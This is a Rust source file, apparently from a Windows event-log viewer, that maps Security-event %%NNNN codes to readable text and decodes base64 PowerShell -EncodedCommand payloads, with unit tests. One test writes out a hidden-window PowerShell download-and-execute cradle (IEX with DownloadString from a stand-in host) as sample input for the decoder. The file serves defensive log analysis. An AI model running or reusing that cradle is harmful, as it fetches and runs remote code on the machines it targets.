//! What the detail pane can say about a value beyond its text: `%%NNNN` message-table
//! codes of common Security events resolved to their words, and PowerShell `-enc`
//! payloads decoded (shown beside the original, never instead of it).

use base64::Engine;

/// Words for the `%%NNNN` insertion strings of msobjs.dll that common Security events
/// carry (4624/4625 logons, 4663 object access, 4688 process creation, 4720/4738 account
/// changes). Unknown codes stay as they are.
pub fn message_code(n: u32) -> Option<&'static str> {
    Some(match n {
        1537 => "DELETE",
        1538 => "READ_CONTROL",
        1539 => "WRITE_DAC",
        1540 => "WRITE_OWNER",
        1541 => "SYNCHRONIZE",
        1542 => "ACCESS_SYS_SEC",
        1793 => "<value not set>",
        1794 => "<never>",
        1797 => "All",
        1832 => "Identification",
        1833 => "Impersonation",
        1840 => "Delegation",
        1842 => "Yes",
        1843 => "No",
        1936 => "Type 1: full token, no privileges removed (TokenElevationTypeDefault)",
        1937 => "Type 2: elevated token (TokenElevationTypeFull)",
        1938 => "Type 3: limited token (TokenElevationTypeLimited)",
        2048 => "Account Enabled",
        2049 => "'Home Directory Required' - Disabled",
        2050 => "'Password Not Required' - Disabled",
        2051 => "'Temp Duplicate Account' - Disabled",
        2052 => "'Normal Account' - Disabled",
        2053 => "'MNS Logon Account' - Disabled",
        2054 => "'Interdomain Trust Account' - Disabled",
        2055 => "'Workstation Trust Account' - Disabled",
        2056 => "'Server Trust Account' - Disabled",
        2057 => "'Don't Expire Password' - Disabled",
        2058 => "Account Unlocked",
        2059 => "'Encrypted Text Password Allowed' - Disabled",
        2060 => "'Smartcard Required' - Disabled",
        2061 => "'Trusted For Delegation' - Disabled",
        2062 => "'Not Delegated' - Disabled",
        2063 => "'Use DES Key Only' - Disabled",
        2064 => "'Don't Require Preauth' - Disabled",
        2065 => "'Password Expired' - Disabled",
        2066 => "'Trusted To Authenticate For Delegation' - Disabled",
        2080 => "Account Disabled",
        2081 => "'Home Directory Required' - Enabled",
        2082 => "'Password Not Required' - Enabled",
        2083 => "'Temp Duplicate Account' - Enabled",
        2084 => "'Normal Account' - Enabled",
        2085 => "'MNS Logon Account' - Enabled",
        2086 => "'Interdomain Trust Account' - Enabled",
        2087 => "'Workstation Trust Account' - Enabled",
        2088 => "'Server Trust Account' - Enabled",
        2089 => "'Don't Expire Password' - Enabled",
        2090 => "Account Locked",
        2091 => "'Encrypted Text Password Allowed' - Enabled",
        2092 => "'Smartcard Required' - Enabled",
        2093 => "'Trusted For Delegation' - Enabled",
        2094 => "'Not Delegated' - Enabled",
        2095 => "'Use DES Key Only' - Enabled",
        2096 => "'Don't Require Preauth' - Enabled",
        2097 => "'Password Expired' - Enabled",
        2098 => "'Trusted To Authenticate For Delegation' - Enabled",
        2304 => "An Error occurred during Logon.",
        2305 => "The specified user account has expired.",
        2306 => "The NetLogon component is not active.",
        2307 => "Account locked out.",
        2308 => "The user has not been granted the requested logon type at this machine.",
        2309 => "The specified account's password has expired.",
        2310 => "Account currently disabled.",
        2311 => "Account logon time restriction violation.",
        2312 => "User not allowed to logon at this computer.",
        2313 => "Unknown user name or bad password.",
        4416 => "ReadData (or ListDirectory)",
        4417 => "WriteData (or AddFile)",
        4418 => "AppendData (or AddSubdirectory or CreatePipeInstance)",
        4419 => "ReadEA",
        4420 => "WriteEA",
        4421 => "Execute/Traverse",
        4422 => "DeleteChild",
        4423 => "ReadAttributes",
        4424 => "WriteAttributes",
        _ => return None,
    })
}

/// `v` with each known `%%NNNN` code followed by its words (`%%1833` → `%%1833
/// Impersonation`); runs of white space (codes come one per line, tab-indented) become
/// one space. `None` when `v` holds no known code.
pub fn resolve_codes(v: &str) -> Option<String> {
    let mut out = String::new();
    let mut found = false;
    let mut rest = v;
    while let Some(at) = rest.find("%%") {
        out.push_str(&rest[..at]);
        let digits: String = rest[at + 2..]
            .chars()
            .take_while(char::is_ascii_digit)
            .take(6)
            .collect();
        let code = &rest[at..at + 2 + digits.len()];
        out.push_str(code);
        if let Some(text) = digits.parse::<u32>().ok().and_then(message_code) {
            found = true;
            out.push_str(" (");
            out.push_str(text);
            out.push(')');
        }
        rest = &rest[at + 2 + digits.len()..];
    }
    out.push_str(rest);
    found.then(|| out.split_whitespace().collect::<Vec<_>>().join(" "))
}

/// The script of a PowerShell `-EncodedCommand` (any abbreviation: `-e`, `-ec`, `-enc`,
/// `-encodedcommand`, also with `/`) in `cmdline`: base64 of UTF-16LE text. `None` when
/// there is none, or what follows does not decode to text.
pub fn decode_enc(cmdline: &str) -> Option<String> {
    const FULL: &str = "encodedcommand";
    let words: Vec<&str> = cmdline.split_whitespace().collect();
    words.windows(2).find_map(|w| {
        let flag = w[0].strip_prefix(['-', '/'])?.to_ascii_lowercase();
        if flag.is_empty() || !(FULL.starts_with(&flag) || flag == "ec") {
            return None;
        }
        decode_utf16_base64(w[1].trim_matches(['"', '\'']))
    })
}

fn decode_utf16_base64(b64: &str) -> Option<String> {
    if b64.len() < 8 {
        return None;
    }
    let engine = base64::engine::GeneralPurpose::new(
        &base64::alphabet::STANDARD,
        base64::engine::GeneralPurposeConfig::new()
            .with_decode_padding_mode(base64::engine::DecodePaddingMode::Indifferent),
    );
    let bytes = engine.decode(b64).ok()?;
    if bytes.len() % 2 != 0 {
        return None;
    }
    let units: Vec<u16> = bytes
        .chunks_exact(2)
        .map(|c| u16::from_le_bytes([c[0], c[1]]))
        .collect();
    let text = String::from_utf16(&units).ok()?;
    // Base64 of something else (a hash, a key) decodes to noise: not a script.
    let printable = text
        .chars()
        .filter(|c| !c.is_control() || c.is_whitespace())
        .count();
    (printable * 10 >= text.chars().count() * 9 && !text.trim().is_empty()).then_some(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn message_table_codes_are_resolved() {
        assert_eq!(
            resolve_codes("%%1833").as_deref(),
            Some("%%1833 (Impersonation)")
        );
        assert_eq!(
            resolve_codes("\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084").as_deref(),
            Some(
                "%%2080 (Account Disabled) %%2082 ('Password Not Required' - Enabled) \
                 %%2084 ('Normal Account' - Enabled)"
            )
        );
        assert_eq!(
            resolve_codes("%%4416\r\n\t\t\t\t").as_deref(),
            Some("%%4416 (ReadData (or ListDirectory))")
        );
        assert_eq!(resolve_codes("%%9999"), None, "unknown code");
        assert_eq!(resolve_codes("50%% off"), None);
        assert_eq!(resolve_codes("plain"), None);
    }

    #[test]
    fn powershell_encoded_commands_are_decoded() {
        // "IEX (New-Object Net.WebClient).DownloadString('https://x/a.ps1')" in UTF-16LE.
        let script = "IEX (New-Object Net.WebClient).DownloadString('https://x/a.ps1')";
        let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let b64 = base64::engine::general_purpose::STANDARD.encode(&utf16);
        for flag in ["-enc", "-EncodedCommand", "-e", "/ec", "-ENCOD"] {
            let cmd = format!("powershell.exe -nop -w hidden {flag} {b64}");
            assert_eq!(decode_enc(&cmd).as_deref(), Some(script), "{flag}");
        }
        // Without padding, and quoted.
        let bare = b64.trim_end_matches('=');
        assert_eq!(
            decode_enc(&format!("pwsh -enc \"{bare}\"")).as_deref(),
            Some(script)
        );
        assert_eq!(decode_enc("powershell -nop -w hidden"), None);
        assert_eq!(decode_enc("tool -e notbase64!!"), None);
        assert_eq!(
            decode_enc("cmd -execute SQBFAFgA"),
            None,
            "not a prefix of -encodedcommand"
        );
        // Base64 of random bytes is no script.
        let noise = base64::engine::general_purpose::STANDARD
            .encode([0x01u8, 0xd8, 0x02, 0x00, 0x03, 0x00, 0x04, 0x00]);
        assert_eq!(decode_enc(&format!("x -enc {noise}")), None);
    }
}
